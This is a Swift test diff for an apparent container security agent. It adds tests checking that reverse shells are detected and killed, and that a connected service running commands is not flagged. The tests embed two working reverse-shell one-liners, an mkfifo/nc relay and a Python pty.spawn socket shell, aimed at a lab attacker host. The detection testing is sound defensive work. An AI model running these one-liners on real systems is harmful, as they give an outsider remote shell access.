@@ -96,4 +96,52 @@ struct ProcessDetectionTests {
         #expect(scenario.alerts(kind: "reverse_shell").isEmpty, "a shell on pipes is not a reverse shell")
         #expect(FileManager.default.fileExists(atPath: scenario.container.sharedDirectory + "/health"))
     }
+
+    /// A shell whose stdio is pipes or a pty relayed by a connected process
+    /// of the pod: found when the relay connects (mkfifo) or when the shell
+    /// execs (pty.spawn), and the shell is killed by the agent.
+    @Test(arguments: ["mkfifo", "pty"])
+    func aRelayedShellIsFoundAndKilled(technique: String) throws {
+        let scenario = try Scenario()
+        let attacker = "\(scenario.attacker.ipv4)/\(Self.port)"
+        let command =
+            technique == "mkfifo"
+            ? ["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc \(scenario.attacker.ipv4) \(Self.port) > /tmp/f"]
+            : [
+                "python3", "-c",
+                "import socket,os,pty;s=socket.socket();s.connect((\"\(scenario.attacker.ipv4)\",\(Self.port)));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")"
+            ]
+        try scenario.env.lab.spawn(in: scenario.container, command)
+        let alert = try scenario.waitForAlert(kind: "reverse_shell")
+        let evidence = try #require(alert["evidence"] as? [String: Any])
+        #expect(evidence["technique"] as? String == "relayed_stdio", "\(evidence)")
+        #expect(evidence["relay"] as? String == (technique == "mkfifo" ? "nc" : "python3"))
+        #expect(evidence["remote"] as? String == scenario.attacker.ipv4, "\(attacker)")
+        let process = try #require((alert["source"] as? [String: Any])?["process"] as? [String: Any])
+        #expect(process["comm"] as? String == (technique == "mkfifo" ? "sh" : "bash"))
+        let actions = try #require(alert["actions"] as? [[String: Any]])
+        let kill = try #require(actions.first { $0["type"] as? String == "kill" }, "\(actions)")
+        #expect(kill["at_exec"] as? Bool == false, "killed by the agent: the shell was already running")
+        let pid = try #require(kill["pid"] as? Int)
+        #expect(waitUntil(timeout: 2) { kill_pid_gone(pid) } != nil, "the shell is dead")
+    }
+
+    @Test func aServiceRunningCommandsWhileConnectedIsNotAReverseShell() throws {
+        let scenario = try Scenario()
+        // Holds a connection (its "database") and runs sh -c, as services do.
+        try scenario.env.lab.exec(
+            in: scenario.container,
+            [
+                "python3", "-c",
+                "import socket,subprocess;s=socket.create_connection((\"\(scenario.attacker.ipv4)\",\(Self.port)));[subprocess.run([\"sh\",\"-c\",\"ls / > /dev/null\"]) for _ in range(3)];s.close()"
+            ])
+        Thread.sleep(forTimeInterval: 1)
+        #expect(scenario.alerts(kind: "reverse_shell").isEmpty, "\(scenario.alerts(kind: "reverse_shell"))")
+    }
+}
+
+/// Whether a process is gone (or a zombie).
+private func kill_pid_gone(_ pid: Int) -> Bool {
+    let stat = (try? String(contentsOfFile: "/proc/\(pid)/stat", encoding: .utf8)) ?? ""
+    return stat.isEmpty || stat.split(separator: ")").last?.split(separator: " ").first == "Z"
 }
